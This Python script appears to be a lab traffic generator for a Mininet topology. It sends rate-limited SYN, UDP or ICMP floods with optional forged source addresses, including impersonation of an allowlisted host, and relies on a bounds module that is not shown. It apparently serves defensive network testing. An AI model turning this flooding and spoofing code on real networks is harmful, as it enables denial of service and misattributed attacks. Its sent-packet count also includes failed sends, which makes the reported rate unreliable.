"""A bounded flood generator for the Mininet topology: SYN, UDP or ICMP echo, optionally with forged sources.

Runs inside a Mininet host. Bounded on purpose: a rate (packets/s, at most
500,000), a duration (at most 120 s), a destination inside the topology's
subnet only, and never on an interface with a physical device behind it.

    python scripts/traffic/flood.py --iface a1-eth0 --dst 10.0.0.2 --dst-mac 00:00:00:00:00:02 \\
        --rate 50000 --duration 3 [--udp | --icmp] [--spoof]

--icmp sends echo requests (56 bytes of payload, like ping, one identifier, a sequence number
per packet, valid checksums, so the target answers them): a ping flood.

Prints one JSON line: packets sent, seconds, achieved rate.
"""
from __future__ import annotations

import argparse
import json
import os
import random
import socket
import struct
import sys
import time

from bounds import MAX_DURATION, MAX_RATE, check


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def echo_frames(src_mac: bytes, dst_mac: bytes, src_ip: str, dst_ip: str, count: int = 4096) -> list[bytes]:
    out = []
    payload = bytes(range(56))
    for seq in range(count):
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x1d2a, seq) + payload
        icmp = icmp[:2] + struct.pack("!H", _checksum(icmp)) + icmp[4:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), seq, 0x4000, 64, 1, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
        out.append(dst_mac + src_mac + b"\x08\x00" + ip + icmp)
    return out


def frames(src_mac: bytes, dst_mac: bytes, src_ip: str, dst_ip: str, dport: int, udp: bool, spoof: bool,
           count: int = 4096, spoof_as: str | None = None) -> list[bytes]:
    rng = random.Random(1)
    out = []
    for _ in range(count):
        if spoof_as:
            src = socket.inet_aton(spoof_as)
        else:
            src = rng.getrandbits(32).to_bytes(4, "big") if spoof else socket.inet_aton(src_ip)
        sport = rng.randrange(1024, 65535)
        l4 = (struct.pack("!HHHH", sport, dport, 8 + 32, 0) + b"\0" * 32 if udp
              else struct.pack("!HHIIBBHHH", sport, dport, rng.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, 64, 17 if udp else 6, 0, src,
                         socket.inet_aton(dst_ip))
        out.append(dst_mac + src_mac + b"\x08\x00" + ip + l4)
    return out


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--iface", required=True)
    parser.add_argument("--dst", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--dport", type=int, default=80)
    parser.add_argument("--rate", type=int, required=True, help=f"packets/s, at most {MAX_RATE:,}")
    parser.add_argument("--duration", type=float, required=True, help=f"seconds, at most {MAX_DURATION:.0f}")
    parser.add_argument("--udp", action="store_true")
    parser.add_argument("--icmp", action="store_true", help="ICMP echo requests (a ping flood)")
    parser.add_argument("--spoof", action="store_true", help="forge a random IPv4 source per packet")
    parser.add_argument("--spoof-as", help="forge this one IPv4 source (e.g. an allowlisted host's)")
    args = parser.parse_args()
    check(parser, dst=args.dst, rate=args.rate, duration=args.duration, iface=args.iface)
    with open(f"/sys/class/net/{args.iface}/address") as fh:
        src_mac = bytes.fromhex(fh.read().strip().replace(":", ""))
    own_ip = next((a for a in os.popen(f"ip -4 -o addr show {args.iface}").read().split() if "/" in a), "0.0.0.0/0")
    if args.icmp and (args.udp or args.spoof or args.spoof_as):
        parser.error("--icmp sends from the host's own address, and not with --udp")
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    batch = (echo_frames(src_mac, dst_mac, own_ip.split("/")[0], args.dst) if args.icmp else
             frames(src_mac, dst_mac, own_ip.split("/")[0], args.dst, args.dport, args.udp, args.spoof,
                    spoof_as=args.spoof_as))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    send = sock.send
    burst = max(1, min(256, args.rate // 1000))
    started_at = time.time()
    start = time.monotonic()
    sent = 0
    end = start + args.duration
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * args.rate)
        if sent >= due:
            time.sleep(min(0.001, (sent + burst - due) / args.rate))
            continue
        for i in range(min(burst, due - sent)):
            try:
                send(batch[(sent + i) & 4095])
            except OSError:  # the interface queue is full: count it as not sent
                pass
        sent += min(burst, due - sent)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "rate": round(sent / elapsed),
                      "started_at": started_at}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
